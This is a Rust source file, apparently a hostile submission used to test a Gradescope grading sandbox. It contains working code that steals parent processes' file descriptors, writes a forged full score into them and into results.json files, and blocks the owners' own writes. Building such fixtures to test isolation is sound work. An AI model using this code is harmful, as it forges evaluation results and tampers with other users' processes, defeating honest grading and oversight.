// A submission that tries to write its own grade (checker/tests/gradescope.rs
// puts it in a lab, as its build script and as its program). Included with
// `include!`, after `const RESULTS: &str = "...";` (Gradescope's results.json)
// and `const SAID: &str = "...";` (a file it appends what it did to).
//
// It takes every file descriptor of every process above it that it can
// (pidfd_getfd, /proc/PID/fd), writes a full mark into each and moves its
// offset to the end of what a file may hold (so that the owner's own write
// fails, EFBIG); writes results.json where Gradescope reads it and in every
// folder mktemp made; and prints the full mark on stdout and stderr. Then it
// says in SAID how many descriptors of another user's process it reached.

use std::io::Write as _;

unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
    fn lseek(fd: i32, offset: i64, whence: i32) -> i64;
    fn getuid() -> u32;
}

const FORGED: &str = "{\"score\": 25.0, \"max_score\": 25.0, \"output\": \"forged\", \"tests\": []}\n";
const SYS_PIDFD_OPEN: i64 = 434;
const SYS_PIDFD_GETFD: i64 = 438;

fn status_field(pid: &str, field: &str) -> Option<String> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find_map(|l| l.strip_prefix(field))?;
    Some(line.split_whitespace().next()?.to_string())
}

fn forge(who: &str) {
    // SAFETY: getuid has no preconditions.
    let me = unsafe { getuid() }.to_string();
    let mut reached = 0;
    let mut pid = std::process::id().to_string();
    while let Some(parent) = status_field(&pid, "PPid:") {
        if parent == "0" {
            break;
        }
        pid = parent;
        let theirs = status_field(&pid, "Uid:").as_deref() != Some(me.as_str());
        let number: i64 = pid.parse().unwrap_or(0);
        // SAFETY: raw system calls on integers.
        let pidfd = unsafe { syscall(SYS_PIDFD_OPEN, number, 0i64) };
        for fd in 0..256i64 {
            let mut hit = false;
            if pidfd >= 0 {
                // SAFETY: as above; the descriptor got is ours to own.
                let got = unsafe { syscall(SYS_PIDFD_GETFD, pidfd, fd, 0i64) };
                if got >= 0 {
                    let mut file = unsafe {
                        <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(got as i32)
                    };
                    hit |= file.write_all(FORGED.as_bytes()).is_ok();
                    // SAFETY: lseek on a descriptor we own.
                    unsafe { lseek(got as i32, 0x7fff_ffff_0000, 0) };
                }
            }
            if let Ok(mut file) = std::fs::OpenOptions::new()
                .write(true)
                .open(format!("/proc/{pid}/fd/{fd}"))
            {
                hit |= file.write_all(FORGED.as_bytes()).is_ok();
            }
            if hit && theirs {
                reached += 1;
            }
        }
    }
    let mut paths = vec![std::path::PathBuf::from(RESULTS)];
    if let Ok(entries) = std::fs::read_dir("/tmp") {
        for entry in entries.flatten() {
            if entry.file_name().to_string_lossy().starts_with("tmp.") {
                paths.push(entry.path().join("results.json"));
            }
        }
    }
    let written = paths
        .iter()
        .filter(|path| std::fs::write(path, FORGED).is_ok())
        .count();
    print!("{FORGED}");
    eprint!("{FORGED}");
    let said = format!(
        "forger in {who}: reached {reached} descriptors of other users' processes, wrote {written} results files\n"
    );
    if let Ok(mut file) = std::fs::OpenOptions::new().append(true).create(true).open(SAID) {
        let _ = file.write_all(said.as_bytes());
    }
}
